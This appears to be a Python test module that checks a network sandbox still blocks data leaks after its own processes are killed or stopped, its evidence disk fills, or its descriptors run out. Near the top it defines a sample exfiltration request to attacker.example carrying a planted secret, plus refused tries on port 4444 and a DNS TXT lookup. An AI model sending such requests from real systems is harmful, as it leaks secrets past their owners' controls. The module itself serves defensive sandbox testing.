"""Violence to our own processes (rows 45, 46, 50): whatever happens to them, nothing gets out.

A scene starts a jail, does something to one of its processes, and has the agent try again, in
ways that the jail allows and in ways that it refuses. Beside the jail the same tries arrive.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import signal
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

from netns.escapes.channel import Channel, PlayError
from netns.escapes.report import Line
from tests.escape.stage import LabStage
from tests.lab.world import DEV_UID

_NET_ADMIN = 1 << 12
_FEW = 80
_CLOSE = "Connection: close\r\n\r\n"
_ALLOWED: dict[str, Any] = {
    "program": "web.say",
    "args": {
        "dial": "api.example.com",
        "text": f"GET /get?n=NONCE HTTP/1.1\r\nHost: api.example.com\r\n{_CLOSE}",
    },
}
_LEAK: dict[str, Any] = {
    "program": "web.say",
    "args": {
        "dial": "attacker.example",
        "text": f"GET /get?n=NONCE&k=PLANTED HTTP/1.1\r\nHost: attacker.example\r\n{_CLOSE}",
    },
}
_REFUSED: tuple[dict[str, Any], ...] = (
    _LEAK,
    {"program": "packets.tcp", "args": {"port": 4444}},
    {"program": "packets.udp", "args": {"port": 4444}},
    {"program": "services.dns", "args": {"server": "resolver4", "type": "TXT"}},
)


class Roles(NamedTuple):
    """Processes of a jail, as this process numbers them; 0 for one that is not there."""

    supervisor: int
    interceptor: int = 0
    guard: int = 0
    witness: int = 0
    enclosure: int = 0


def roles(channel: Channel) -> Roles:
    """Find the processes of a jail: who they are says what they are."""
    (supervisor,) = children(channel.process.pid)
    found = {}
    for pid in children(supervisor):
        with contextlib.suppress(OSError):
            rows = dict(
                row.split(":\t", 1)
                for row in Path(f"/proc/{pid}/status").read_text("ascii").splitlines()
                if ":\t" in row
            )
            uid, held = int(rows["Uid"].split()[0]), int(rows["CapEff"], 16)
            if rows["Name"] == "bwrap":
                found["enclosure"] = pid
            elif uid == DEV_UID:
                found["witness"] = pid
            elif held == _NET_ADMIN:
                found["guard"] = pid
            elif uid:
                found["interceptor"] = pid
    return Roles(supervisor, **found)


def children(pid: int) -> list[int]:
    """Children of a process."""
    text = Path(f"/proc/{pid}/task/{pid}/children").read_text("ascii")
    return [int(word) for word in text.split()]


@dataclasses.dataclass(frozen=True)
class _Scene:
    row: int
    id: str
    title: str
    act: Callable[[Roles], str]
    """Does it; returns why it cannot be done here, or an empty text."""
    offline: bool = True
    """Not even what the policy allows may leave afterwards."""

    def __call__(self, stage: LabStage) -> Line:
        channel, evidence, _ = stage.jail("user")
        try:
            first = drawn()
            channel.ask(order(_ALLOWED, first))
            cannot = self.act(roles(channel))
            time.sleep(0.2)
            tries = [*_REFUSED, *([_ALLOWED] if self.offline else [])]
            made = [(drawn(), each) for each in tries]
            saw = [tried(channel, each, nonce) for nonce, each in made]
        finally:
            end_of(channel)
        beside = [(drawn(), each) for each in tries]
        for nonce, each in beside:
            stage.controls["user"].ask(order(each, nonce))
        time.sleep(0.4)
        seen = stage.seen([first, *(nonce for nonce, _ in (*made, *beside))])
        arrived = [where for nonce, _ in made for where in seen.get(nonce, ())]
        controls = [nonce in seen for nonce, _ in beside]
        good = first in seen and all(controls)
        verdict = "escaped" if arrived else "held" if good else "no control"
        blocks = evidence.fresh()
        return Line(
            row=self.row,
            id=self.id,
            title=self.title,
            without=f"{sum(controls)} of {len(controls)} tries arrived",
            control_user="user",
            within=", ".join(sorted(set(arrived))) or "nothing",
            saw="; ".join(dict.fromkeys(saw)),
            event=str(blocks[-1]["reason"]) if blocks else "",
            modes={"user": "not applicable" if cannot else verdict},
            verdict="not applicable" if cannot else verdict,
            reason=cannot,
        )


def drawn() -> str:
    """A nonce."""
    return f"egx{os.urandom(8).hex()}"


def order(each: dict[str, Any], nonce: str, seconds: float = 1.5) -> dict[str, Any]:
    """What a runner is told."""
    return {"id": nonce, "nonce": nonce, "seconds": seconds, **each}


def tried(channel: Channel, each: dict[str, Any], nonce: str) -> str:
    """Have a runner try; says what it saw, also when it has ended."""
    try:
        return str(channel.ask(order(each, nonce))["saw"])
    except PlayError:
        return "the agent has ended"


def end_of(channel: Channel) -> None:
    """End a jail, whatever state it is in: with its supervisor everything ends."""
    with contextlib.suppress(OSError, ValueError):
        for pid in children(channel.process.pid):
            os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(BrokenPipeError):
        channel.close(10.0)


def _sent(role: str, number: signal.Signals) -> Callable[[Roles], str]:
    def act(found: Roles) -> str:
        pid = getattr(found, role)
        if not pid:
            return f"this jail has no {role}"
        os.kill(pid, number)
        return ""

    return act


def few_descriptors(stage: LabStage) -> Line:
    """Exhaust the interceptor's descriptors with connections, then leak."""
    crowd = {**_LEAK, "program": "web.crowd"}
    made, beside = drawn(), drawn()
    channel, evidence, _ = stage.jail("user", descriptors=_FEW)
    try:
        saw = str(channel.ask(order(crowd, made, 14.0))["saw"])
    except PlayError:
        saw = "the agent has ended"
    finally:
        end_of(channel)
    stage.controls["user"].ask(order(crowd, beside, 14.0))
    time.sleep(0.4)
    seen = stage.seen([made, beside])
    verdict = "escaped" if made in seen else "held" if beside in seen else "no control"
    return Line(
        row=50,
        id="descriptors",
        title=f"a leak behind 300 connections, with {_FEW} descriptors for the interceptor",
        without=", ".join(seen.get(beside, ["nothing"])),
        control_user="user",
        within=", ".join(seen.get(made, ["nothing"])),
        saw=saw,
        event=next((str(each["reason"]) for each in evidence.fresh()), ""),
        modes={"user": verdict},
        verdict=verdict,
    )


def full_disk(stage: LabStage) -> Line:
    """Nothing leaves without a line of evidence, and there is no room for lines."""
    small = "/run/egx-small"
    script = f"mkdir -p {small} && mount -t tmpfs -o size=8k tmpfs {small}"
    stage.lab.run(["sh", "-c", script])
    nonces = [drawn() for _ in range(40)]
    try:
        channel, _, _ = stage.jail("user", evidence=f"{small}/evidence.jsonl")
        saw = [tried(channel, _ALLOWED, nonce) for nonce in nonces]
        leak = drawn()
        tried(channel, _LEAK, leak)
        end_of(channel)
        lines = stage.lab.path(f"{small}/evidence.jsonl").read_bytes().count(b'"allow"')
    finally:
        stage.lab.run(["sh", "-c", f"umount -l {small}; rmdir {small}"])
    time.sleep(0.4)
    arrived = stage.seen([*nonces, leak])
    beyond = len(arrived) - lines
    stopped = any("503" in each for each in saw)
    good = beyond <= 0 and stopped and leak not in arrived
    return Line(
        row=46,
        id="full-disk",
        title="no room for evidence",
        without=f"{len(arrived)} of {len(nonces)} arrived before the disk was full",
        control_user="user",
        within="nothing" if beyond <= 0 else f"{beyond} more than lines",
        saw=saw[-1],
        event="",
        modes={"user": "held" if good else "escaped"},
        verdict="held" if good else "escaped",
    )


_KILL, _STOP = signal.SIGKILL, signal.SIGSTOP

VIOLENCE: list[Callable[[LabStage], Line]] = [
    _Scene(
        46,
        "kill-interceptor",
        "kill -9 of the interceptor, as when memory ends",
        _sent("interceptor", _KILL),
    ),
    _Scene(46, "stop-interceptor", "SIGSTOP of the interceptor", _sent("interceptor", _STOP)),
    _Scene(46, "kill-supervisor", "kill -9 of the supervisor", _sent("supervisor", _KILL)),
    _Scene(46, "kill-enclosure", "kill -9 of the enclosure", _sent("enclosure", _KILL)),
    _Scene(46, "kill-guard", "kill -9 of the packet guard", _sent("guard", _KILL), offline=False),
    _Scene(46, "kill-witness", "kill -9 of the witness", _sent("witness", _KILL), offline=False),
    full_disk,
    few_descriptors,
]
